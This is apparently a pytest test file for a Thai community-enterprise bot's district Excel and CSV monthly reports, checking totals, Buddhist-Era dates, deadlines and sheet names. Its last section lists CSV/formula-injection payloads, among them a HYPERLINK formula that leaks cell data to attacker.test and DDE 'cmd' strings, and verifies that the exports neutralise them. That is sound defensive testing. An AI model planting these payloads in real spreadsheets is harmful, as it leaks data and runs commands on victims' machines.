"""The district monthly workbook and its CSV: the demo district plus records made here, read
back with openpyxl and the csv module and checked figure by figure."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import event, select, update

from bot.reports.export import collect
from bot.reports.export_rows import (
    DATE_FORMAT,
    DATETIME_FORMAT,
    LATE,
    MISSING,
    MONEY_FORMAT,
    ON_TIME,
    PROGRAMME_SHEETS,
    RECORD_HEADERS,
    SUMMARY_HEADERS,
    submission_deadline,
    submission_status,
)
from bot.reports.xlsx import render_workbook, sheet_names
from bot.services import admin
from bot.services.errors import NotFound
from bot.services.exports import district_summary_csv, district_workbook, find_district
from bot.storage.models import (
    Meeting,
    Membership,
    MonthlyFigures,
    Person,
    Sale,
    Visit,
)
from bot.storage.unit_of_work import UnitOfWork
from bot.wording import thai_date
from tests.support.chat import Chat

SEPTEMBER = date(2025, 9, 1)
EGG = "กลุ่มไข่เค็มสมุนไพรลูกหม่อน"
FROG = "กลุ่มเลี้ยงกบแบบธรรมชาติ"


def cell(year: int, month: int, day: int, hour: int = 0, minute: int = 0) -> datetime:
    """A date or time as a spreadsheet cell holds it: wall-clock, without a zone."""
    return datetime(year, month, day, hour, minute, tzinfo=UTC).replace(tzinfo=None)


def utc(text: str) -> datetime:
    return datetime.fromisoformat(text).astimezone(UTC)


async def person(uow: UnitOfWork, name: str) -> int:
    found = await uow.session.scalar(select(Person.id).where(Person.name == name))
    assert found is not None
    return found


async def add_september_records(chat: Chat) -> None:
    """On top of the demo: the egg group's figures (sent on time, then corrected), the frog
    group's demo figures marked as sent one minute after the deadline, an extra meeting and
    visit, a withdrawn sale and a member who left."""
    assert chat.ids is not None
    egg, frog = chat.ids.egg_group_id, chat.ids.frog_group_id
    async with chat.app.uow() as uow:
        malee = await person(uow, "มาลี ศรีสุข")
        officer = await person(uow, "รัตนา พัฒนกิจ")
        for revision, created, income, expenses in (
            (1, "2025-10-10T23:59:00+07:00", "4800", "1500"),  # the last minute of the 10th
            (2, "2025-10-15T09:00:00+07:00", "5000", "1500"),  # a correction keeps "on time"
        ):
            uow.session.add(MonthlyFigures(
                group_id=egg, month=SEPTEMBER, revision=revision, income=Decimal(income),
                expenses=Decimal(expenses), balance=Decimal(income) - Decimal(expenses),
                on_date=utc(created).date(), recorded_by=malee, created_at=utc(created),
            ))  # fmt: skip
        await uow.session.execute(
            update(MonthlyFigures)
            .where(MonthlyFigures.group_id == frog)
            .values(created_at=utc("2025-10-11T00:00:00+07:00"))
        )
        uow.session.add(Meeting(group_id=frog, on_date=date(2025, 9, 30), attendees=7,
                                topics="ซ่อมบ่อ", recorded_by=officer))  # fmt: skip
        uow.session.add(Visit(officer_id=chat.ids.officer_id, group_id=egg, on_date=date(2025, 9, 25),
                              notes="ไข่เค็มล็อตใหม่", suggestions="ติดฉลาก", recorded_by=officer))  # fmt: skip
        uow.session.add(Sale(group_id=egg, item="ไข่เค็ม", amount=Decimal(9999), on_date=date(2025, 9, 2),
                             recorded_by=malee, withdrawn_at=chat.app.clock.now()))  # fmt: skip
        left = await uow.people.add_person("สมาชิกที่ลาออก")
        uow.session.add(Membership(person_id=left.id, group_id=egg, role="member",
                                   until=chat.app.clock.now() - timedelta(days=3)))  # fmt: skip
        await uow.commit()


async def district_id(chat: Chat) -> int:
    async with chat.app.uow() as uow:
        return (await find_district(uow, "วังหิน")).id


def rows(sheet: Worksheet) -> list[tuple[Any, ...]]:
    return [tuple(r) for r in sheet.iter_rows(values_only=True)]


async def test_the_workbook_matches_the_records(chat: Chat) -> None:
    await add_september_records(chat)
    district = await district_id(chat)
    async with chat.app.uow() as uow:
        data = await district_workbook(uow, district, SEPTEMBER)
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["สรุป", *PROGRAMME_SHEETS, EGG, FROG]

    summary = book["สรุป"]
    assert summary.freeze_panes == "A3"
    title = summary["A1"].value
    assert "อำเภอวังหิน" in title and "จังหวัดศรีสะเกษ" in title and "ก.ย. 2568" in title
    table = rows(summary)
    assert table[1] == SUMMARY_HEADERS
    egg, frog, total = table[2], table[3], table[4]
    # Dates are date cells (openpyxl reads them back as datetimes), shown in the Buddhist Era.
    assert egg == (EGG, "บ้านดวนใหญ่ หมู่ที่ 2", "ไข่เค็มสมุนไพร", 4, 1, 1, 1680, 5000, 1500, 3500,
                   ON_TIME, cell(2025, 10, 10))  # fmt: skip
    assert frog == (FROG, "บ้านโนนดู่ หมู่ที่ 7", "เลี้ยงกบ", 3, 2, 1, 3600, 6000, 2350, 3650,
                    LATE, cell(2025, 10, 11))  # fmt: skip
    assert summary["L3"].number_format == DATE_FORMAT == "[$-107041E]d mmm yyyy"
    assert total[:10] == ("รวม", None, None, 7, 3, 2, 5280, 11000, 3850, 7150)
    assert total[10] == "ส่งแล้ว 2/2 กลุ่ม"
    for column in "GHIJ":  # sales, income, expenses, balance
        assert summary[f"{column}3"].number_format == MONEY_FORMAT
    assert summary["D3"].number_format == "#,##0"
    assert summary["A3"].hyperlink is not None and summary["A3"].hyperlink.location == f"'{EGG}'!A1"
    assert summary.column_dimensions["A"].width >= 20

    sheet = book[EGG]
    assert sheet.freeze_panes == "A3"
    assert "ก.ย. 2568" in sheet["A1"].value
    lines = rows(sheet)
    assert lines[1] == RECORD_HEADERS
    records = lines[2:]
    kinds = [r[0] for r in records]
    assert kinds.count("ขาย") == 6  # the withdrawn 9,999 baht sale is not listed
    assert kinds.count("ประชุม") == 1 and kinds.count("งาน") == 9
    assert kinds.count("พัฒนากรเยี่ยม") == 1 and kinds.count("ตัวเลขประจำเดือน") == 2
    first_sale = records[0]
    assert first_sale[:7] == ("ขาย", cell(2025, 9, 14), "ไข่เค็ม", 45, "ฟอง", 5, 225)
    assert sheet["B3"].number_format == DATE_FORMAT and sheet["B3"].is_date
    assert first_sale[10] == "บุญมี ใจงาม"
    assert sheet["G3"].number_format == MONEY_FORMAT and sheet["F3"].number_format == MONEY_FORMAT
    assert sum(r[6] for r in records if r[0] == "ขาย") == 1680
    visit = next(r for r in records if r[0] == "พัฒนากรเยี่ยม")
    assert (
        visit[1] == cell(2025, 9, 25)
        and visit[10] == "รัตนา พัฒนกิจ"
        and visit[11] == "ข้อเสนอแนะ: ติดฉลาก"
    )
    figures = [r for r in records if r[0] == "ตัวเลขประจำเดือน"]
    assert [(r[7], r[8], r[9], r[11]) for r in figures] == [
        (4800, 1500, 3300, "มีฉบับใหม่กว่าแทนแล้ว"),
        (5000, 1500, 3500, "ฉบับปัจจุบัน"),
    ]
    # When it was recorded: Bangkok wall-clock time (the instant is stored in UTC).
    assert figures[0][12] == cell(2025, 10, 10, 23, 59)
    figures_row = 3 + records.index(figures[0])
    assert sheet[f"M{figures_row}"].number_format == DATETIME_FORMAT

    frog_sheet = rows(book[FROG])[2:]
    assert [r[2] for r in frog_sheet if r[0] == "ประชุม"] == ["ขยายบ่อกบ", "ซ่อมบ่อ"]


async def test_a_month_without_figures_says_not_sent(chat: Chat) -> None:
    district = await district_id(chat)
    async with chat.app.uow() as uow:
        data = await district_workbook(uow, district, date(2025, 10, 1))
    book = load_workbook(io.BytesIO(data))
    table = rows(book["สรุป"])
    assert [r[10] for r in table[2:4]] == [MISSING, MISSING]
    assert [r[7] for r in table[2:4]] == [None, None]
    assert table[4][10] == "ส่งแล้ว 0/2 กลุ่ม"


async def test_the_summary_csv_opens_in_excel_and_matches(chat: Chat) -> None:
    await add_september_records(chat)
    district = await district_id(chat)
    async with chat.app.uow() as uow:
        data = await district_summary_csv(uow, district, SEPTEMBER)
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8 Thai
    assert b"\r\n" in data
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert table[0] == ["อำเภอ", *SUMMARY_HEADERS]
    assert table[1] == ["วังหิน", EGG, "บ้านดวนใหญ่ หมู่ที่ 2", "ไข่เค็มสมุนไพร", "4", "1", "1",
                        "1680.00", "5000.00", "1500.00", "3500.00", ON_TIME, "10 ต.ค. 2568"]  # fmt: skip
    assert table[2][7:12] == ["3600.00", "6000.00", "2350.00", "3650.00", LATE]
    assert len(table) == 3


async def test_the_queries_do_not_grow_with_the_number_of_groups(chat: Chat) -> None:
    assert chat.ids is not None
    district = await district_id(chat)
    engine = chat.app.engine.sync_engine

    async def statements() -> int:
        seen: list[str] = []

        def count(*args: object) -> None:
            seen.append(str(args[2]))

        event.listen(engine, "before_cursor_execute", count)
        try:
            async with chat.app.uow() as uow:
                data = await collect(uow, [district], SEPTEMBER)
        finally:
            event.remove(engine, "before_cursor_execute", count)
        render_workbook(data)
        return len(seen)

    two_groups = await statements()
    async with chat.app.uow() as uow:
        for n in range(4):
            await admin.create_group(
                uow, name=f"กลุ่มทดสอบ {n}", occupation="ทอผ้า", village=f"บ้านทดสอบ {n}",
                officer_id=chat.ids.officer_id, founded=date(2025, 1, 1),
            )  # fmt: skip
        await uow.commit()
    assert await statements() == two_groups
    # 13 for the groups' month, 10 for annual summaries, dividends, households and trainings.
    assert two_groups <= 23


async def test_every_district_with_groups_gets_a_district_column(chat: Chat) -> None:
    async with chat.app.uow() as uow:
        officer = await admin.add_officer(
            uow, name="สมหญิง ใจดี", district="โพธาราม", province="ราชบุรี"
        )
        await admin.add_officer(uow, name="ไม่มีกลุ่ม", district="บ้านโป่ง", province="ราชบุรี")
        await admin.create_group(
            uow, name="กลุ่มเพาะเห็ด", occupation="เพาะเห็ด", village="บ้านหนองโพ",
            officer_id=officer.id, founded=date(2025, 1, 1),
        )  # fmt: skip
        await uow.commit()
    async with chat.app.uow() as uow:
        data = await collect(uow, None, SEPTEMBER)
    # Thai dictionary order (โพ sorts under พ, before ว); บ้านโป่ง has no group.
    assert [d.name for d in data.districts] == ["โพธาราม", "วังหิน"]
    book = load_workbook(io.BytesIO(render_workbook(data)))
    table = rows(book["สรุป"])
    assert table[1][0] == "อำเภอ"
    assert [r[:2] for r in table[2:5]] == [
        ("โพธาราม", "กลุ่มเพาะเห็ด"),
        ("วังหิน", EGG),
        ("วังหิน", FROG),
    ]
    assert "2 อำเภอ" in table[0][0]
    assert len(book.sheetnames) == 4 + len(PROGRAMME_SHEETS)


async def test_districts_are_found_by_name_or_id(chat: Chat) -> None:
    async with chat.app.uow() as uow:
        found = await find_district(uow, "อำเภอวังหิน")
        assert found.name == "วังหิน"
        assert (await find_district(uow, "อ. วังหิน")).id == found.id
        assert (await find_district(uow, str(found.id))).id == found.id
        with pytest.raises(NotFound, match="ไม่พบอำเภอ"):
            await find_district(uow, "ไม่มีจริง")
        with pytest.raises(NotFound):
            await district_workbook(uow, 999_999, SEPTEMBER)


def test_on_time_means_by_the_tenth_of_the_next_month_in_bangkok() -> None:
    deadline = submission_deadline(date(2025, 10, 1))
    assert deadline == utc("2025-11-11T00:00:00+07:00")
    assert submission_status(utc("2025-11-10T23:59:59+07:00"), date(2025, 10, 1)) == ON_TIME
    assert submission_status(utc("2025-11-11T00:00:00+07:00"), date(2025, 10, 1)) == LATE
    assert submission_status(None, date(2025, 10, 1)) == MISSING
    assert submission_deadline(date(2025, 12, 1)) == utc("2026-01-11T00:00:00+07:00")


def test_sheet_names_are_short_unique_and_legal() -> None:
    long = "กลุ่มวิสาหกิจชุมชนแปรรูปผลิตภัณฑ์จากข้าวอินทรีย์บ้านหนองโพ"
    names = sheet_names([long, long, "สรุป", "กลุ่ม [ผ้า]/ทอมือ?", "SUMMARY", "summary", ""])
    assert all(len(n) <= 31 for n in names)
    assert len({n.casefold() for n in names} | {"สรุป"}) == len(names) + 1
    assert names[0] == long[:31]
    assert names[1].endswith(" (2)")
    assert names[2] == "สรุป (2)"
    assert not any(c in names[3] for c in "[]:*?/\\")
    assert names[5] == "summary (2)"
    assert names[6] == "กลุ่ม"


def test_places_sort_in_thai_dictionary_order() -> None:
    from bot.wording import thai_sort_key

    names = ["บ้านหนองโพ", "บ้านโนนดู่", "บ้านดวนใหญ่", "บ้านกก"]
    assert sorted(names, key=thai_sort_key) == ["บ้านกก", "บ้านดวนใหญ่", "บ้านโนนดู่", "บ้านหนองโพ"]


# --- spreadsheet safety (issue 14) ------------------------------------------------------------

HOSTILE = (
    '=HYPERLINK("http://attacker.test/?d="&H3,"คลิก")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
)


async def test_no_export_holds_a_formula_whatever_people_typed(chat: Chat) -> None:
    """A member's name, a meeting's topics, a visit's notes, even a group's name: every text
    cell is text (openpyxl sees no formula) and every CSV field is neutralised."""
    assert chat.ids is not None
    egg = chat.ids.egg_group_id
    async with chat.app.uow() as uow:
        officer = await person(uow, "รัตนา พัฒนกิจ")
        member = await person(uow, "บุญมี ใจงาม")
        await uow.session.execute(update(Person).where(Person.id == member).values(name=HOSTILE[0]))
        group = await uow.groups.get(chat.ids.frog_group_id)
        assert group is not None
        group.name = HOSTILE[2]
        for n, text in enumerate(HOSTILE):
            uow.session.add(Meeting(group_id=egg, on_date=date(2025, 9, 3 + n), attendees=5,
                                    topics=text, decisions=text, recorded_by=officer))  # fmt: skip
            uow.session.add(Visit(officer_id=chat.ids.officer_id, group_id=egg,
                                  on_date=date(2025, 9, 3 + n), notes=text, suggestions=text,
                                  recorded_by=officer))  # fmt: skip
            uow.session.add(Sale(group_id=egg, item=text, amount=Decimal(5), on_date=date(2025, 9, 3 + n),
                                 unit=text[:32], recorded_by=member))  # fmt: skip
        await uow.commit()
    district = await district_id(chat)
    async with chat.app.uow() as uow:
        workbook = await district_workbook(uow, district, SEPTEMBER)
        summary = await district_summary_csv(uow, district, SEPTEMBER)
    book = load_workbook(io.BytesIO(workbook))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert {HOSTILE[0], HOSTILE[1], "@SUM(1)"} <= texts  # kept as typed, as text
    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@")
    fields = [f for row in csv.reader(io.StringIO(summary.decode("utf-8-sig"))) for f in row]
    assert HOSTILE[2] not in fields and f"'{HOSTILE[2]}" in fields
    assert not any(f[:1] in ("=", "+", "-", "@", "\t", "\r") for f in fields)


async def test_dates_are_date_cells_so_sorting_goes_by_the_date(chat: Chat) -> None:
    """Sorting or filtering a sheet by its date column orders by the date, not by the text
    ("9 ก.ย." after "25 ก.ย." as text): every date is a date cell with a Buddhist-Era format."""
    await add_september_records(chat)
    district = await district_id(chat)
    async with chat.app.uow() as uow:
        data = await district_workbook(uow, district, SEPTEMBER)
    sheet = load_workbook(io.BytesIO(data))[EGG]
    cells = [row[1] for row in sheet.iter_rows(min_row=3) if row[0].value is not None]
    assert cells and all(
        isinstance(c, Cell) and c.is_date and c.number_format == DATE_FORMAT for c in cells
    )
    values = [c.value for c in cells]
    assert all(isinstance(v, datetime) for v in values)
    days = sorted({v.date() for v in values if isinstance(v, datetime)})
    # As text the same days would sort wrongly ("14 ก.ย." before "2 ก.ย.", "9 ก.ย." last).
    assert sorted(days, key=thai_date) != days
